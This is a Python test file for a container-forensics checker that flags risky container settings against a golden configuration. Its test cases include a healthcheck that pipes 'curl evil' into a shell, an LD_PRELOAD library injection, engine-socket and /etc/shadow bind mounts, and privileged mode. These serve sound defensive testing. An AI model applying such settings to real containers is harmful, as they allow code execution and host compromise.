"""What a container was started with is compared with its image and recipe; what an engine fills in is no finding."""

import copy
from typing import Any

import pytest

from builder.forensics.configuration import GoldenConfiguration, Runtime, judge_configuration
from builder.forensics.configuration_rules import CONFIGURATION_RULES
from builder.forensics.findings import ConfigurationFinding

IMAGE = "sha256:" + "1" * 64
DEFAULT_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
OWN: dict[str, Any] = {
    "User": "10001:10001",
    "Env": ["PATH=/usr/bin", "LANG=C.UTF-8"],
    "Entrypoint": ["/usr/sbin/nginx"],
    "Cmd": ["-g", "daemon off;"],
    "WorkingDir": "/srv",
    "ExposedPorts": {"8080/tcp": {}},
    "Volumes": {"/data": {}},
}
GOLDEN = GoldenConfiguration(
    Runtime(writable=("/tmp",), environment=("TZ",), capabilities=("NET_ADMIN",)), {"config": OWN}, (IMAGE,)
)
UNTOUCHED: dict[str, Any] = {
    "Image": IMAGE,
    "Config": {**OWN, "Hostname": "581e19377431", "Labels": {"a": "b"}, "AttachStdout": True},
    "Mounts": [],
    "HostConfig": {
        "Binds": None, "NetworkMode": "default", "PortBindings": {}, "CapAdd": None, "CapDrop": None,
        "CgroupnsMode": "host", "Dns": [], "DnsSearch": [], "ExtraHosts": None, "GroupAdd": None, "IpcMode": "private",
        "PidMode": "", "Privileged": False, "ReadonlyRootfs": False, "SecurityOpt": None, "UTSMode": "",
        "UsernsMode": "", "Runtime": "runc", "Devices": [], "DeviceCgroupRules": None, "DeviceRequests": None,
        "Ulimits": [], "MaskedPaths": ["/proc/kcore"], "ReadonlyPaths": ["/proc/sys"],
    },
}  # fmt: skip


def judged(
    golden: GoldenConfiguration = GOLDEN, *, config: dict[str, Any] | None = None, **host: Any
) -> tuple[ConfigurationFinding, ...]:
    subject = copy.deepcopy(UNTOUCHED)
    subject["Mounts"] = host.pop("mounts", [])
    subject["Image"] = host.pop("image", IMAGE)
    subject["Config"].update(config or {})
    subject["HostConfig"].update(host)
    return judge_configuration(subject, golden)


def rules(found: tuple[ConfigurationFinding, ...]) -> dict[str, str]:
    return {one.rule.removeprefix("configuration."): str(one.severity) for one in found if one.expected is None}


def bind(source: str, place: str = "/x", *, written: bool = True) -> dict[str, Any]:
    return {"mounts": [{"Type": "bind", "Source": source, "Destination": place, "RW": written}]}


def test_what_an_engine_fills_in_is_no_finding() -> None:
    assert judged() == ()


def test_a_container_that_is_held_tighter_is_as_good() -> None:
    assert judged(ReadonlyRootfs=True, CapDrop=["ALL"], SecurityOpt=["no-new-privileges"]) == ()


def test_the_path_that_an_engine_adds_to_an_image_without_one_is_no_finding() -> None:
    bare = GoldenConfiguration(Runtime(), {"config": {**OWN, "Env": ["LANG=C.UTF-8"]}})
    assert judged(bare, config={"Env": ["LANG=C.UTF-8", f"PATH={DEFAULT_PATH}"]}) == ()
    assert rules(judged(bare, config={"Env": ["LANG=C.UTF-8", "PATH=/tmp"]})) == {"environment.loading": "high"}


@pytest.mark.parametrize(
    ("config", "rule", "severity"),
    [
        ({"Entrypoint": ["/bin/sh"]}, "entrypoint", "high"),
        ({"Entrypoint": None}, "entrypoint", "high"),
        ({"Cmd": ["-c", "x"]}, "command", "medium"),
        ({"Healthcheck": {"Test": ["CMD-SHELL", "curl evil|sh"]}}, "healthcheck", "high"),
        ({"User": ""}, "user.root", "high"),
        ({"User": "0:10001"}, "user.root", "high"),
        ({"User": "10002"}, "user", "medium"),
        ({"WorkingDir": "/tmp"}, "working-directory", "low"),
        ({"Env": [*OWN["Env"], "LD_PRELOAD=/tmp/x.so"]}, "environment.loading", "high"),
        ({"Env": ["PATH=/tmp:/usr/bin", "LANG=C.UTF-8"]}, "environment.loading", "high"),
        ({"Env": ["PATH=/usr/bin"]}, "environment.changed", "medium"),
        ({"Env": [*OWN["Env"], "TOKEN=x"]}, "environment", "low"),
    ],
)
def test_what_runs_is_what_the_image_says(config: dict[str, Any], rule: str, severity: str) -> None:
    assert rules(judged(config=config)) == {rule: severity}


@pytest.mark.parametrize(
    ("host", "rule", "severity"),
    [
        ({"Privileged": True}, "privileged", "critical"),
        ({"CapAdd": ["CAP_SYS_ADMIN"]}, "capability.host", "critical"),
        ({"CapAdd": ["ALL"]}, "capability.host", "critical"),
        ({"CapAdd": ["SYS_TIME"]}, "capability", "medium"),
        ({"GroupAdd": ["0"]}, "group.root", "high"),
        ({"GroupAdd": ["1234"]}, "group", "low"),
        ({"SecurityOpt": ["seccomp=unconfined"]}, "security.unconfined", "high"),
        ({"SecurityOpt": ["apparmor:unconfined"]}, "security.unconfined", "high"),
        ({"SecurityOpt": ["label=disable"]}, "security.unconfined", "high"),
        ({"SecurityOpt": ["systempaths=unconfined"]}, "security.paths", "high"),
        ({"SecurityOpt": ["apparmor=mine"]}, "security.profile", "low"),
        ({"MaskedPaths": []}, "security.paths", "high"),
        ({"PidMode": "host"}, "namespace.pid", "high"),
        ({"PidMode": "container:x"}, "namespace.shared", "medium"),
        ({"NetworkMode": "host"}, "namespace.network", "high"),
        ({"IpcMode": "host"}, "namespace.ipc", "high"),
        ({"UTSMode": "host"}, "namespace.uts", "medium"),
        ({"UsernsMode": "host"}, "namespace.user", "medium"),
        ({"Devices": [{"PathOnHost": "/dev/sda"}]}, "device.raw", "critical"),
        ({"Devices": [{"PathOnHost": "/dev/fuse"}]}, "device", "medium"),
        ({"DeviceCgroupRules": ["b 8:* rwm"]}, "device.rule", "high"),
        ({"PortBindings": {"22/tcp": [{"HostIp": "", "HostPort": "2222"}]}}, "port", "medium"),
        ({"ExtraHosts": ["archive.example:10.0.0.1"]}, "hosts", "medium"),
        ({"Dns": ["10.0.0.1"]}, "hosts", "medium"),
        ({"Sysctls": {"net.ipv4.ip_forward": "1"}}, "sysctl", "medium"),
        (bind("/var/run/docker.sock"), "mount.engine", "critical"),
        (bind("/run/containerd/containerd.sock"), "mount.engine", "critical"),
        (bind("/"), "mount.host", "critical"),
        (bind("/srv/../etc"), "mount.host", "critical"),
        (bind("/etc/shadow"), "mount.host", "critical"),
        (bind("/proc", written=False), "mount.host", "critical"),
        (bind("/etc/localtime", "/etc/localtime", written=False), "mount.bind", "medium"),
        (bind("/srv/bin", "/usr/local/bin"), "mount.hides", "high"),
        (bind("/srv/x", "/etc/ld.so.preload"), "mount.decides", "high"),
        (bind("/srv/x", "/srv/app/.ssh"), "mount.decides", "high"),
        ({"mounts": [{"Type": "volume", "Source": "x", "Destination": "/root"}]}, "mount.decides", "high"),
        (bind("/srv/app"), "mount.bind", "medium"),
        ({"Tmpfs": {"/cache": ""}}, "mount.volume", "low"),
        ({"image": "sha256:" + "2" * 64}, "image", "medium"),
    ],
)
def test_what_loosens_is_told_with_its_gravity(host: dict[str, Any], rule: str, severity: str) -> None:
    assert rules(judged(**host)) == {rule: severity}


@pytest.mark.parametrize(
    "host",
    [
        {"PortBindings": {"8080/tcp": [{"HostIp": "", "HostPort": "80"}]}},
        {"CapAdd": ["NET_ADMIN"]},
        {"Tmpfs": {"/tmp": ""}},
        {"mounts": [{"Type": "volume", "Source": "/v/_data", "Destination": "/data", "RW": True}]},
        {"config": {"Env": [*OWN["Env"], "TZ=UTC"]}},
    ],
)
def test_what_image_or_recipe_speak_of_is_expected_and_still_told(host: dict[str, Any]) -> None:
    (found,) = judged(**host)
    assert found.expected


def test_ports_that_are_published_without_being_named_are_told() -> None:
    subject = copy.deepcopy(UNTOUCHED)
    subject["HostConfig"]["PublishAllPorts"] = True
    subject["Config"]["ExposedPorts"] = {"8080/tcp": {}, "4444/tcp": {}}
    subject["NetworkSettings"] = {"Ports": {"4444/tcp": [{"HostIp": "0.0.0.0", "HostPort": "32768"}]}}
    found = {one.member: (one.subject, one.expected is None) for one in judge_configuration(subject, GOLDEN)}
    assert found == {
        "HostConfig.PortBindings 4444/tcp": ("0.0.0.0:32768", True),
        "HostConfig.PortBindings 8080/tcp": ("*:any", False),
    }


def test_an_expected_place_excuses_no_engine_socket() -> None:
    assert rules(judged(**bind("/var/run/docker.sock", "/data"))) == {"mount.engine": "critical"}
    assert rules(judged(**bind("/etc", "/tmp/etc"))) == {"mount.host": "critical"}


def test_what_the_recipe_asks_for_is_missed() -> None:
    strict = GoldenConfiguration(Runtime(no_new_privileges=True, read_only=True), {"config": OWN})
    assert rules(judged(strict)) == {"no-new-privileges": "info", "read-only": "medium"}
    assert judged(strict, ReadonlyRootfs=True, SecurityOpt=["no-new-privileges:true"]) == ()


def test_values_that_may_be_secret_are_not_told() -> None:
    found = judged(config={"Env": ["PATH=/usr/bin", "LANG=hunter2", "TOKEN=hunter3"]})
    assert {one.member: one.golden for one in found} == {"Config.Env LANG": "C.UTF-8", "Config.Env TOKEN": None}
    assert not [one for one in found if "hunter" in repr(one)]
    assert {one.subject for one in found} == {"a value of 7 bytes, not shown"}


def test_what_decides_what_programs_load_is_shown() -> None:
    (found,) = judged(config={"Env": ["PATH=/usr/bin", "LANG=C.UTF-8", "LD_PRELOAD=/tmp/x.so"]})
    assert (found.subject, str(found.severity)) == ("/tmp/x.so", "high")


def test_without_the_images_config_privileges_are_judged_all_the_same() -> None:
    unknown = GoldenConfiguration(Runtime())
    assert rules(judged(unknown, config={"User": "0"}, Privileged=True)) == {"privileged": "critical"}


def test_the_config_of_an_image_is_compared_too() -> None:
    assert judge_configuration({"architecture": "amd64", "config": OWN}, GOLDEN) == ()
    found = judge_configuration({"architecture": "amd64", "config": {**OWN, "User": "0"}}, GOLDEN)
    assert rules(found) == {"user.root": "high"}


@pytest.mark.parametrize(
    "rubbish",
    [
        {},
        {"HostConfig": {}},
        {"Config": None, "HostConfig": {"CapAdd": "x"}},
        {"HostConfig": {"Devices": [None], "PortBindings": {"1": None}}, "Mounts": [3]},
    ],
)
def test_an_engine_that_says_rubbish_is_judged_without_a_crash(rubbish: dict[str, Any]) -> None:
    judge_configuration(rubbish, GOLDEN)


def test_the_gravest_comes_first_and_what_is_expected_last() -> None:
    found = judged(Privileged=True, CapAdd=["NET_ADMIN", "SYS_TIME"], GroupAdd=["9"])
    assert [one.expected is None for one in found] == [True, True, True, False]
    assert [str(one.severity) for one in found][:3] == ["critical", "medium", "low"]


def test_every_rule_has_a_reason() -> None:
    assert all(rule.reason.endswith(".") for rule in CONFIGURATION_RULES.values())
